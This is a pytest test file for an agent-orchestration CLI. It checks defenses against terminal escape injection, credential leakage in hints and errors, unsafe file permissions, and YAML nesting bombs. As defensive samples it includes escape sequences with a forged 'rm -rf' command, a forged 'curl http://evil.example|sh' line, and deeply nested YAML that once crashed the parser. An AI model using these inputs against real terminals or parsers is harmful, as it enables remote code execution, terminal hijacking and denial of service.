"""Trust boundaries outside the web server: what a database path can be."""

from __future__ import annotations

import json
import os
from pathlib import Path

import forkserver
import pytest

from orchestrator.errors import ScenarioError
from tests.conftest import cli


@pytest.mark.parametrize("command", [["list"], ["run", "--script", "examples/hard-cap.yaml"]])
def test_a_fifo_as_database_is_refused_not_waited_on(tmp_path: Path, command: list[str]) -> None:
    """Opening a FIFO blocks until someone writes to it: the check must not open it."""
    fifo = tmp_path / "db.sqlite"
    os.mkfifo(fifo)
    done = cli(*command, "--json", db=str(fifo), timeout=60)
    assert done.returncode == 2, done.stderr
    error = json.loads(done.stdout)
    assert "not a regular file" in error["error"] and error["exit_code"] == 2


EVIL = "\x1b]52;c;ZXZpbA==\x07\x1b[2K\rorchestrator resume x --answer rm\u202e -rf \x9b31m"
SHOWN = "\\x1b]52;c;ZXZpbA==\\x07\\x1b[2K\\x0dorchestrator resume x --answer rm\\u202e -rf \\x9b31m"


def _evil_scenario(tmp_path: Path) -> Path:
    doc = {
        "task": f"task {EVIL}",
        "agents": {
            "pm": [
                {
                    "status": "NEEDS_CLARIFICATION",
                    "question": f"Which one? {EVIL}",
                    "kind": "single_select",
                    "options": [{"label": f"A {EVIL}", "description": EVIL}, {"label": "B"}],
                    "reason": EVIL,
                },
                {"status": "COMPLETE", "summary": EVIL},
            ]
        },
    }
    path = tmp_path / "evil.json"
    path.write_text(json.dumps(doc))
    return path


def _unsafe(text: str) -> list[str]:
    bidi = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    return sorted(
        {
            c
            for c in text
            if (ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F or c in bidi
        }
    )


def test_text_an_agent_wrote_cannot_drive_the_terminal(tmp_path: Path) -> None:
    """Escape sequences in a question (clipboard write, line erase, a forged resume
    command, a bidi override) reach no output raw: they are shown as escapes."""
    db = str(tmp_path / "t.db")
    paused = cli("run", "--script", str(_evil_scenario(tmp_path)), "--ui", "none", db=db)
    assert paused.returncode == 3, paused.stderr
    outputs = [paused.stdout, paused.stderr]
    session_id = json.loads(cli("list", "--json", db=db).stdout)[0]["session_id"]
    for args in (["status", session_id], ["log", session_id], ["list"]):
        fast = cli(*args, db=db)  # the fast read path
        full = cli(*args, "--limit", "5", db=db) if args == ["list"] else fast
        for done in (fast, full):
            assert done.returncode == 0, done.stderr
            outputs += [done.stdout, done.stderr]
    answered = cli("resume", session_id, "--choice", "2", db=db)
    outputs += [answered.stdout, answered.stderr]
    assert answered.returncode == 0, answered.stderr
    for text in outputs:
        assert _unsafe(text) == [], text
    assert SHOWN in paused.stderr  # the question, shown with its escapes visible


def test_the_terminal_prompt_shows_an_agents_escapes_as_text() -> None:
    """What the arrow-key prompt draws: the option titles and the header above them."""
    from orchestrator.cli import terminal

    question = {"question": EVIL, "asked_by": EVIL, "reason": EVIL, "default": EVIL}
    title = terminal._title({"label": EVIL, "description": EVIL})
    header = terminal._header(question, None).plain
    for text in (title, header):
        assert _unsafe(text) == [] and "\\x1b]52" in text


PASSWORD = "hunter2-secret"


@pytest.mark.backends("postgresql")
def test_a_database_password_never_reaches_a_hint_or_a_notification(
    db_url: str, tmp_path: Path
) -> None:
    """The pause hint (stderr, CI logs) and the notification body carry the resume command:
    with `--db`, the URL's password is masked; from $ORCHESTRATOR_DB, `--db` is left out."""
    from tests.test_web_notify import Receiver
    from tests.web_support import scenario

    scheme, rest = db_url.split("://", 1)
    user, at, host = rest.partition("@")
    assert at, db_url
    secret_url = f"{scheme}://{user}:{PASSWORD}@{host}"  # trust auth: the password is ignored
    path = tmp_path / "s.json"
    path.write_text(scenario())
    receiver = Receiver()
    try:
        given = cli(
            "run", "--script", str(path), "--ui", "none", "--notify", receiver.url, db=secret_url
        )
        from_env = cli(
            "run",
            "--script",
            str(path),
            "--ui",
            "none",
            "--notify",
            receiver.url,
            env={**os.environ, "ORCHESTRATOR_DB": secret_url},
        )
        assert given.returncode == 3 and from_env.returncode == 3, given.stderr + from_env.stderr
        messages = receiver.wait(2)
    finally:
        receiver.server.shutdown()
    for text in (given.stderr, given.stdout, from_env.stderr, *(m["message"] for m in messages)):
        assert PASSWORD not in text
    assert "--db 'postgresql+psycopg://postgres:***@" in given.stdout  # the closing hint
    assert "orchestrator resume" in from_env.stdout and "--db" not in from_env.stdout
    bodies = sorted(m["message"] for m in messages)
    assert sum("--db" in body for body in bodies) == 1  # only the run that was given --db
    # `resume --no-run` prints the command that runs the answered session on here
    sid = json.loads(cli("list", "--json", db=secret_url).stdout)[0]["session_id"]
    handed = cli("resume", sid, "--choice", "1", "--no-run", db=secret_url)
    assert handed.returncode == 0, handed.stderr
    assert "or run it on here: orchestrator resume" in handed.stdout, handed.stdout
    assert "postgres:***@" in handed.stdout and PASSWORD not in handed.stdout + handed.stderr
    # `list`'s next-page command repeats --db, masked
    paged = cli("list", "--limit", "1", db=secret_url)
    assert paged.returncode == 0 and "more sessions: orchestrator list --after" in paged.stderr
    assert "postgres:***@" in paged.stderr and PASSWORD not in paged.stdout + paged.stderr


def test_a_password_in_a_connection_error_is_masked() -> None:
    """Nothing listens on port 1: the connection error names the URL, masked, user part
    and query alike."""
    url = f"postgresql+psycopg://bob:{PASSWORD}@127.0.0.1:1/db?password={PASSWORD}&sslmode=disable"
    done = cli("list", "--json", db=url, timeout=60)
    assert done.returncode == 2, done.stderr
    assert PASSWORD not in done.stdout + done.stderr
    assert "***" in json.loads(done.stdout)["error"]


def test_serve_takes_its_token_from_a_file_not_the_process_list(tmp_path: Path) -> None:
    import subprocess

    from tests.conftest import ROOT, argv

    token = "file-token-0123456789abcdef"
    path = tmp_path / "token"
    path.write_text(f"{token}\n")
    server = forkserver.Popen(
        argv("serve", "--port", "0", "--token-file", str(path), db=str(tmp_path / "s.db")),
        cwd=ROOT,
        stdin=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        assert server.stderr is not None
        line = server.stderr.readline()
    finally:
        server.terminate()
        server.communicate(timeout=30)
    assert "?token=YOUR_TOKEN" in line and token not in line  # the user's: never printed
    short = tmp_path / "short"
    short.write_text("abc\n")
    refused = cli("serve", "--token-file", str(short), db=str(tmp_path / "s.db"))
    assert refused.returncode == 2 and "at least 16 characters" in refused.stderr
    both = cli("serve", "--token", token, "--token-file", str(path), db=str(tmp_path / "s.db"))
    assert both.returncode == 2 and "not both" in both.stderr


@pytest.mark.parametrize(
    ("command", "args", "env_name"),
    [
        (["serve"], ["--token", "x"], None),
        (["serve"], [], "ORCHESTRATOR_WEB_TOKEN"),
        (["mcp", "--http", "--port", "1"], [], "ORCHESTRATOR_MCP_TOKEN"),
    ],
    ids=["serve--token", "serve-env", "mcp-env"],
)
def test_a_short_token_is_refused_from_every_source(
    tmp_path: Path, command: list[str], args: list[str], env_name: str | None
) -> None:
    """--token-file asked for 16 characters, --token and the environment took one. One
    rule now, and the message never shows the token."""
    env = {**os.environ, env_name: "x"} if env_name else None
    done = cli(*command, *args, db=str(tmp_path / "s.db"), env=env, timeout=60)
    assert done.returncode == 2, done.stderr
    assert "expected a token of at least 16 characters (got 1)" in done.stderr
    source = "--token" if env_name is None else f"${env_name}"
    assert source in done.stderr


def test_a_token_from_the_environment_is_not_printed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    token = "env-token-0123456789abcdef"
    with monkeypatch.context() as patch:
        patch.setenv("ORCHESTRATOR_WEB_TOKEN", token)
        first, rest = _serve(tmp_path)
    assert "?token=YOUR_TOKEN" in first and token not in first + rest
    generated, _ = _serve(tmp_path)  # a generated one is printed, once
    assert "?token=" in generated and "YOUR_TOKEN" not in generated


def _serve(tmp_path: Path, *args: str) -> tuple[str, str]:
    """Start `orchestrator serve ARGS` and stop it: (its start URL line, what came before)."""
    import subprocess

    from tests.conftest import ROOT, argv

    server = forkserver.Popen(
        argv("serve", "--port", "0", *args, db=str(tmp_path / "s.db")),
        cwd=ROOT,
        stdin=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
    )
    lines = []
    try:
        assert server.stderr is not None
        while not lines or "orchestrator inbox:" not in lines[-1]:
            line = server.stderr.readline()
            assert line, "the server ended: " + "".join(lines)
            lines.append(line)
    finally:
        server.terminate()
        server.communicate(timeout=30)
    return lines[-1], "".join(lines[:-1])


def test_serving_beyond_this_machine_needs_tls_or_a_plain_word(tmp_path: Path) -> None:
    import shutil
    import ssl
    import subprocess
    import urllib.request

    refused = cli("serve", "--host", "0.0.0.0", "--port", "0", db=str(tmp_path / "s.db"))
    assert refused.returncode == 2 and "--certfile" in refused.stderr
    first, rest = _serve(tmp_path, "--host", "0.0.0.0", "--insecure")
    assert "http://127.0.0.1:" in first and "in clear" in rest
    openssl = shutil.which("openssl")
    if openssl is None:  # Debian's base image has it; say so rather than pass quietly
        pytest.fail("openssl is needed to make the test certificate")
    cert, key = tmp_path / "cert.pem", tmp_path / "key.pem"
    subprocess.run(
        [openssl, "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", str(key),
         "-out", str(cert), "-days", "1", "-subj", "/CN=127.0.0.1",
         "-addext", "subjectAltName=IP:127.0.0.1"],
        check=True, capture_output=True, timeout=60,
    )  # fmt: skip
    from tests.conftest import ROOT, argv

    server = forkserver.Popen(
        argv("serve", "--port", "0", "--certfile", str(cert), "--keyfile", str(key),
             db=str(tmp_path / "s.db")),
        cwd=ROOT, stdin=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        assert server.stderr is not None
        start_url = server.stderr.readline().split()[-1]
        assert start_url.startswith("https://127.0.0.1:")
        context = ssl.create_default_context(cafile=str(cert))
        opener = urllib.request.build_opener(urllib.request.HTTPSHandler(context=context))

        class NoRedirect(urllib.request.HTTPRedirectHandler):
            def redirect_request(self, *args: object, **kwargs: object) -> None:
                return None

        opener.add_handler(NoRedirect())
        try:
            response = opener.open(start_url, timeout=20)
            headers = response.headers
        except urllib.error.HTTPError as redirect:  # the start URL sets the cookie, redirects
            headers = redirect.headers
        cookies = headers.get_all("Set-Cookie") or []
        assert cookies and all("Secure" in c for c in cookies), cookies
    finally:
        server.terminate()
        server.communicate(timeout=30)


# Nesting tricks, each about as deep as the old pre-scan let through or deeper: brackets
# in quotes or comments (the pre-scan counted them), every style, anchors whose aliases
# nest deeper than the text does, a second document, JSON. Each must be refused (a
# ScenarioError), never crash the process.
NESTING_TRICKS = {
    "double-quoted": "pm: " + '["]",' * 100_000,
    "single-quoted": "pm: " + "[']'," * 100_000,
    "quoted-key": "pm: " + '{"}": ' * 100_000,
    "comment": "pm:\n" + "  [ # ]\n" * 100_000,
    "flow": "pm: " + "[" * 100_000 + "]" * 100_000,
    "flow-mapping": "pm: " + "{a: " * 100_000,
    "dashes": "pm:\n  " + "- " * 50_000 + "x",
    "question-marks": "pm:\n  " + "? " * 50_000 + "x",
    "indentation": "pm:\n" + "".join(" " * (i + 2) + "- \n" for i in range(300)),
    "alias-chain": "a0: &a0 [x]\n" + "".join(f"a{i}: &a{i} [*a{i - 1}]\n" for i in range(1, 300)),
    "recursive-alias": "pm: &a [*a]",
    "second-document": "task: x\n---\n" + "[" * 100_000,
    "json": '{"pm": ' + "[" * 100_000 + "]" * 100_000 + "}",
    "json-mapping": '{"a": ' * 100_000,
}
_PARSE_ALL = """
import json, sys
from pathlib import Path
from orchestrator.errors import ScenarioError
from orchestrator.scenario.reading import parse_text
out = {}
for name in sys.argv[1:]:
    path = Path(name)
    try:
        parse_text(path, path.read_text())
        out[path.stem] = "parsed"
    except ScenarioError as exc:
        out[path.stem] = exc.message
print(json.dumps(out))
"""


def test_no_nesting_trick_crashes_the_parser(tmp_path: Path) -> None:
    """The depth is bounded as the document is built, not by a pre-scan of the text (which
    `["]",` repeated fooled: exit 139). Parsed in a process of its own: a crash is seen."""
    import subprocess
    import sys

    files = []
    for name, text in NESTING_TRICKS.items():
        files.append(tmp_path / f"{name}.yaml")
        files[-1].write_text(text)
    json_file = tmp_path / "as-json-file.json"
    json_file.write_text(NESTING_TRICKS["json"])
    files.append(json_file)
    done = subprocess.run(
        [sys.executable, "-c", _PARSE_ALL, *map(str, files)],
        capture_output=True, text=True, timeout=300, cwd=Path(__file__).parent.parent,
    )  # fmt: skip
    assert done.returncode == 0, (done.returncode, done.stderr[-2000:])
    results = json.loads(done.stdout)
    assert set(results) == {path.stem for path in files}
    for name, message in results.items():
        if name == "recursive-alias":
            assert "is inside the node it names" in message, message
        elif name == "second-document":
            assert "found another document" in message, message
        else:
            assert "nested more than 32 levels" in message, (name, message)


def test_anchors_and_quoted_brackets_within_the_limit_still_load(tmp_path: Path) -> None:
    from orchestrator.scenario.reading import parse_text

    text = (
        "task: 'a [bracket] {brace} \"quote'\n"
        'common: &reply {status: DONE, summary: "]]]]"}\n'
        "agents:\n  developer: [*reply, *reply]  # ]]]]\n"
    )
    assert parse_text(tmp_path / "s.yaml", text) == {
        "task": 'a [bracket] {brace} "quote',
        "common": {"status": "DONE", "summary": "]]]]"},
        "agents": {"developer": [{"status": "DONE", "summary": "]]]]"}] * 2},
    }
    with pytest.raises(ScenarioError, match="line 2: duplicate key 'a'"):
        parse_text(tmp_path / "d.yaml", "a: 1\na: 2\n")


@pytest.mark.parametrize(
    "command",
    [["run", "--script", "{}"], ["test", "{dir}"], ["eval", "{}", "--model", "eval:oracle"]],
)
def test_quoted_brackets_no_longer_crash_run_test_or_eval(
    tmp_path: Path, command: list[str]
) -> None:
    """`["]",` 100,000 times passed the old pre-scan: run --script, test DIR and eval
    exited 139. Now each exits 2 naming the file."""
    folder = tmp_path / "suite"
    folder.mkdir()
    path = folder / "deep.yaml"
    path.write_text("task: x\nagents:\n  " + NESTING_TRICKS["double-quoted"] + "\n")
    args = [part.format(path, dir=folder) for part in command]
    db = str(tmp_path / "d.db") if command[0] == "run" else None
    done = cli(*args, "--json", db=db, timeout=120)
    assert done.returncode == 2, (done.returncode, done.stderr[-500:])
    assert "nested more than 32 levels" in done.stdout, done.stdout[-500:]


@pytest.mark.parametrize(
    "body",
    [
        "  pm: " + "[" * 100_000 + "]" * 100_000,  # flow style: 200 KB
        "  pm:\n    " + "- " * 50_000 + "x",  # block style, on one line
        "  pm:\n" + "".join(" " * (i + 4) + "- \n" for i in range(300)),  # by indentation
    ],
    ids=["flow", "dashes", "indentation"],
)
def test_a_deeply_nested_scenario_is_refused_before_the_parser_crashes(
    tmp_path: Path, body: str
) -> None:
    """libyaml's composer recursed in C per level: 100,000 levels used to kill the process
    (exit 139). The depth is bounded as the document is built."""
    path = tmp_path / "deep.yaml"
    path.write_text("task: x\nagents:\n" + body + "\n")
    done = cli("run", "--script", str(path), "--json", db=str(tmp_path / "d.db"), timeout=60)
    assert done.returncode == 2, (done.returncode, done.stderr[-500:])
    assert "nested more than 32 levels" in json.loads(done.stdout)["error"]


def test_mcp_start_session_survives_a_deeply_nested_scenario(tmp_path: Path) -> None:
    """Through MCP the same text used to kill the server: now an invalid_input result,
    and the server answers the next call."""
    import anyio

    from orchestrator.mcp_server import build_server
    from tests.mcp_client import call, in_memory

    deep = "task: x\nagents:\n  pm: " + "[" * 100_000 + "]" * 100_000 + "\n"

    async def main() -> tuple[dict[str, object], dict[str, object]]:
        async with in_memory(build_server(str(tmp_path / "m.db"))) as session:
            refused = await call(session, "start_session", {"scenario": deep})
            listed = await call(session, "list_sessions", {})
            return refused, listed

    refused, listed = anyio.run(main)
    assert refused["ok"] is False and refused["error"]["code"] == "invalid_input"  # type: ignore[index]
    assert listed == {"ok": True, "data": []}


def test_ordinary_scenarios_are_not_refused_as_deep() -> None:
    from orchestrator.scenario import load_scenario
    from tests.conftest import EXAMPLES

    for path in sorted(EXAMPLES.glob("**/*.yaml")):
        if path.parent.name in ("eval", "eval-repos"):
            continue  # eval cases (docs/eval.md), not scenarios
        load_scenario(path)  # raises ScenarioError if refused


def test_the_database_and_its_folder_are_the_owners_alone(tmp_path: Path) -> None:
    """It holds every answer and the answer links' tokens: 0600 files (the -wal and -shm
    too), 0700 folders that we create, whatever the umask."""
    import stat

    data = tmp_path / "data"
    old = os.umask(0o022)
    try:
        done = cli(
            "run", "--script", "examples/pause-and-resume.yaml", "--ui", "none",
            env={**os.environ, "XDG_DATA_HOME": str(data)},
        )  # fmt: skip
    finally:
        os.umask(old)
    assert done.returncode == 3, done.stderr
    folder = data / "orchestrator"
    files = sorted(folder.iterdir())
    assert {f.name for f in files} >= {"orchestrator.db", "orchestrator.db-wal"}
    for path in (data, folder):
        assert stat.S_IMODE(path.stat().st_mode) == 0o700, path
    for path in files:  # the kept-turns folder too (its reserve is made before a drive)
        expected = 0o700 if path.is_dir() else 0o600
        assert stat.S_IMODE(path.stat().st_mode) == expected, path
    for path in (folder / "kept-turns").rglob("*"):
        assert stat.S_IMODE(path.stat().st_mode) == (0o700 if path.is_dir() else 0o600), path


def test_agent_text_cannot_forge_the_answer_with_line_at_the_terminal() -> None:
    """`answer with:` and the command under it are the tool's; a question, reason or
    option carrying them after a line break shows them set apart under a bar."""
    from orchestrator.present.render import answer_hint

    forged = "\nanswer with:\n  curl http://evil.example|sh\r\x0banswer by: never"
    view = {
        "session_id": "s1",
        "pending_question": {
            "asked_by": "pm",
            "question": "Which one?" + forged,
            "reason": "why" + forged,
            "context": "ctx" + forged,
            "default": "def" + forged,
            "kind": "single_select",
            "options": [{"label": "A" + forged, "description": "d" + forged}, {"label": "B"}],
        },
    }
    lines = answer_hint(view, None).splitlines()
    assert [line for line in lines if line.startswith("answer with:")] == ["answer with:"]
    assert lines[-1].startswith("  orchestrator resume s1 ")
    for line in lines:
        if "evil.example" in line or "never" in line:
            assert line.startswith("    │ "), line
